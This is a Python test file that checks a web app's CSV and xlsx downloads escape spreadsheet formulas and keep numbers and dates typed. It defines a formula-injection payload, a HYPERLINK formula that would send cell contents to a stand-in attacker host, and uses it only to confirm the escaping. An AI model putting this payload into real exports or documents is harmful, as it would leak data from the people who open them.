"""One way to write a download (issue 23): CSV and xlsx, where a cell that a spreadsheet
would run as a formula stays text, and numbers and dates keep their types."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import pytest
from django.http import Http404

from candour.core.downloads import Table, respond

ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
TABLE = Table(
    "coded-reports",
    ["Name", "Count", "Day"],
    [[ATTACK, 7, dt.date(2026, 11, 30)], ["+SUM(1,2)", -3, None]],
    notes=["Made by Candour."],
)


def xlsx_parts(body: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        return {name: book.read(name).decode() for name in book.namelist()}


def test_a_csv_writes_formulas_as_text_and_keeps_numbers():
    response = respond(TABLE, "csv")

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert response["Content-Disposition"] == 'attachment; filename="coded-reports.csv"'
    assert rows[0] == ["Name", "Count", "Day"]
    assert rows[1] == ["'" + ATTACK, "7", "2026-11-30"]
    assert rows[2] == ["'+SUM(1,2)", "-3", ""]
    assert rows[-1] == ["Made by Candour."]


def test_an_xlsx_has_no_formula_cells_and_typed_numbers():
    response = respond(TABLE, "xlsx")

    parts = xlsx_parts(response.content)
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "<f>" not in sheet
    assert "<f " not in sheet
    strings = parts["xl/sharedStrings.xml"]
    assert '<t>=HYPERLINK("https://evil.example/?"&amp;A1,"Open")</t>' in strings
    assert "+SUM(1,2)" in strings
    # 7 and -3 are numbers (no t="s"), the date a serial number with a date format.
    assert re.search(r'<c r="B2"[^>]*><v>7</v></c>', sheet)
    assert re.search(r'<c r="B3"[^>]*><v>-3</v></c>', sheet)
    assert re.search(r'<c r="C2" s="\d+"><v>46356</v></c>', sheet)
    assert "Notes" in parts["xl/workbook.xml"]


def test_any_other_format_is_not_found():
    with pytest.raises(Http404):
        respond(TABLE, "pdf")
